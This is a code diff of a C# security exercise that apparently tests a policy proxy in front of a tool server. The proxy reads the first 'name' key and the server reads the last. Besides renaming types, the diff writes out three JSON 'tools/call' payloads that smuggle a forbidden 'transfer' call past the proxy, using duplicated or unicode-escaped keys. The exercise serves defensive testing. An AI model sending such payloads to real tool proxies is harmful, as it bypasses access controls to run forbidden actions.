@@ -27,7 +27,7 @@ public sealed class DuplicateKeys : FilteredExercise
     public override string Protection => "stage validate, one reading of a message";
 
     /// <inheritdoc />
-    public override Story Story { get; } = new(
+    public override ExerciseSteps ExerciseSteps { get; } = new(
         "A policy proxy reads the tool's name up to the first \"name\" member. The server behind it, on the official TypeScript SDK, uses the last "
             + "one.",
         "Mallory writes the name twice: echo, which Mallory may call, and transfer, which no caller may call. Other variants escape a character in "
@@ -39,22 +39,23 @@ public sealed class DuplicateKeys : FilteredExercise
     /// <inheritdoc />
     public override Need Needs => Need.Node;
 
-    internal override Task<Uri> StartServerAsync(Bed bed) => HostedProcess.SdkHttpAsync(bed);
+    internal override Task<Uri> StartServerAsync(RangeFixture fixture) => HostedProcess.SdkHttpAsync(fixture);
 
-    internal override async Task<Uri> StartUnguardedAsync(Bed bed) => await NaiveProxy.StartAsync(
-        bed, await StartServerAsync(bed).ConfigureAwait(false), (_, body) => NaiveReading.CallsNothingButEcho(body)).ConfigureAwait(false);
+    internal override async Task<Uri> StartUnguardedAsync(RangeFixture fixture) => await NaiveProxy.StartAsync(
+        fixture, await StartServerAsync(fixture).ConfigureAwait(false), (_, body) => NaiveReading.CallsNothingButEcho(body)).ConfigureAwait(false);
 
-    internal override PartReplacements Replace(Bed bed) => PartReplacements.None.Put(PartNames.Validate, new NaiveValidate(Views.FirstMembers));
+    internal override PartReplacements Replace(RangeFixture fixture) =>
+        PartReplacements.None.Put(PartNames.Validate, new NaiveValidate(Views.FirstMembers));
 
-    internal override async Task<IReadOnlyList<Attempt>> ExploitAsync(Scene scene) =>
+    internal override async Task<IReadOnlyList<Attempt>> ExploitAsync(AttackContext context) =>
     [
-        await SendAsync(scene, "name twice", (client, amount) =>
+        await SendAsync(context, "name twice", (client, amount) =>
             client.Body("tools/call",
                 "{\"name\":\"echo\",\"arguments\":{\"text\":\"x\",\"amount\":" + Quoted(amount) + "},\"name\":\"transfer\"}")).ConfigureAwait(false),
-        await SendAsync(scene, "name twice, one escaped", (client, amount) =>
+        await SendAsync(context, "name twice, one escaped", (client, amount) =>
             client.Body("tools/call", "{\"name\":\"echo\",\"n\\u0061me\":\"transfer\",\"arguments\":{\"text\":\"x\",\"amount\":"
                 + Quoted(amount) + "}}")).ConfigureAwait(false),
-        await SendAsync(scene, "params twice", (client, amount) =>
+        await SendAsync(context, "params twice", (client, amount) =>
             client.Body("tools/call",
                 "{\"name\":\"echo\",\"arguments\":{\"text\":\"x\"}},\"params\":{\"name\":\"transfer\",\"arguments\":{\"amount\":"
                     + Quoted(amount) + "}}")).ConfigureAwait(false),
